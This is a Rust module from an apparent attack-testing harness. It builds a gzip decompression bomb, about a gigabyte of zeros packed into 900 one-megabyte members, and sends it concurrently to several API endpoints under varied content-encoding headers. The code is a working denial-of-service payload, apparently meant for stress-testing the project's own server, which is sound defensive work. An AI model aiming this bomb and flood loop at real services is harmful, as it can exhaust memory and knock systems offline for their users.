//! Bodies that are small as long as nobody decompresses them.

use std::cell::Cell;
use std::io;
use std::net::SocketAddr;
use std::rc::Rc;
use std::sync::Arc;

use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;

use super::opened::Opened;
use crate::attack::Tally;

/// So many at a time.
const AT_ONCE: usize = 32;

/// A megabyte of zeros; a file of gzip may have any number of such members, one after another (RFC 1952, section 2.2).
const MEGABYTE: &[u8] = include_bytes!("megabyte.gz");

/// How many members: a gigabyte in a megabyte.
const MEMBERS: usize = 900;

/// What a body may say of itself, and where it may be sent.
const ENCODINGS: [&str; 5] = ["gzip", "x-gzip", "deflate", "br", "gzip, gzip"];
const TARGETS: [&str; 3] = ["/v1/jobs", "/v1/queues/bombs/jobs", "/v1/files"];

pub(super) async fn run(count: usize, addr: SocketAddr, tally: &Arc<Tally>) {
    tally.is_ready();
    let bomb: Rc<[u8]> = MEGABYTE.repeat(MEMBERS).into();
    let next = Rc::new(Cell::new(0));
    let mut workers = JoinSet::new();
    for _ in 0..AT_ONCE {
        let (next, tally, bomb) = (Rc::clone(&next), Arc::clone(tally), Rc::clone(&bomb));
        workers.spawn_local(async move {
            while next.get() < count {
                let at = next.replace(next.get() + 1);
                let (encoding, target) = (ENCODINGS[at % ENCODINGS.len()], TARGETS[at % TARGETS.len()]);
                // What it is answered is counted, and whatever else happens too.
                let _ = one(encoding, target, &bomb, addr, &tally).await;
            }
        });
    }
    while workers.join_next().await.is_some() {}
    tally.is_done();
}

async fn one(encoding: &str, target: &str, bomb: &[u8], addr: SocketAddr, tally: &Arc<Tally>) -> io::Result<()> {
    let mut opened = Opened::connect(addr, tally).await?;
    let head = format!(
        "POST {target} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-encoding: {encoding}\r\n\
         content-length: {}\r\n\r\n",
        bomb.len()
    );
    opened.stream.write_all(head.as_bytes()).await?;
    // The server need not take it all.
    let _ = opened.stream.write_all(bomb).await;
    opened.answer().await.map(drop)
}
